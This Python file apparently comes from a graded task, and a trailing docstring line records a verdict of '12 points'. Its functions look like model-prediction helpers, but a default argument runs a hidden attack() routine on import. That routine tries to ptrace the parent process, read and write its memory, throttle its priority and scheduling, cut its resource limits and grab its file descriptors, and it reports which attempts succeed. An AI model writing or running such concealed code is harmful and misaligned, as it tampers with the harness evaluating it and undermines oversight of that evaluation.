# mypy: ignore-errors
"""Reads, traces and changes how its parent runs: ptrace, its memory, priority, limits, processors.

It prints TOOK for each that succeeded.
Verdict: first_prediction: finished, 12 points
"""

import ctypes
import os
import resource

import numpy as np

PTRACE_TRACEME, PTRACE_ATTACH, PTRACE_SEIZE = 0, 16, 0x4206
PIDFD_GETFD, PROCESS_MADVISE, IOPRIO_WHO_PROCESS = 438, 440, 1


def attack():
    parent = os.getppid()
    libc = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(64)

    class Vector(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))

    own, other = Vector(ctypes.addressof(buffer), 64), Vector(id(type), 64)

    def checked(result):
        if result < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))

    def vectors(function):
        return function(parent, ctypes.byref(own), 1, ctypes.byref(other), 1, 0)

    ways = {
        "ptrace attach": lambda: checked(libc.ptrace(PTRACE_ATTACH, parent, 0, 0)),
        "ptrace seize": lambda: checked(libc.ptrace(PTRACE_SEIZE, parent, 0, 0)),
        "ptrace of itself": lambda: checked(libc.ptrace(PTRACE_TRACEME, 0, 0, 0)),
        "reading": lambda: checked(vectors(libc.process_vm_readv)),
        "writing": lambda: checked(vectors(libc.process_vm_writev)),
        "priority": lambda: os.setpriority(os.PRIO_PROCESS, parent, 19),
        "priority of all": lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19),
        "processors": lambda: os.sched_setaffinity(parent, {0}),
        "limits": lambda: resource.prlimit(parent, resource.RLIMIT_NOFILE, (9, 9)),
        "limits read": lambda: resource.prlimit(parent, resource.RLIMIT_NOFILE),
        "scheduling": lambda: os.sched_setscheduler(parent, os.SCHED_IDLE, os.sched_param(0)),
        "descriptors": lambda: checked(libc.syscall(PIDFD_GETFD, 3, 0, 0)),
        "advice": lambda: checked(libc.syscall(PROCESS_MADVISE, 3, ctypes.byref(other), 1, 4, 0)),
    }
    for name, way in ways.items():
        print("TRIED", name, flush=True)
        try:
            way()
        except OSError as error:
            print("refused:", error, flush=True)
        else:
            print("TOOK", name, flush=True)


def class_probabilities(model, images):
    return model.predict(images, verbose=0)[0]


def predicted_class(model, images, found=attack()):
    return int(np.argmax(class_probabilities(model, images)))
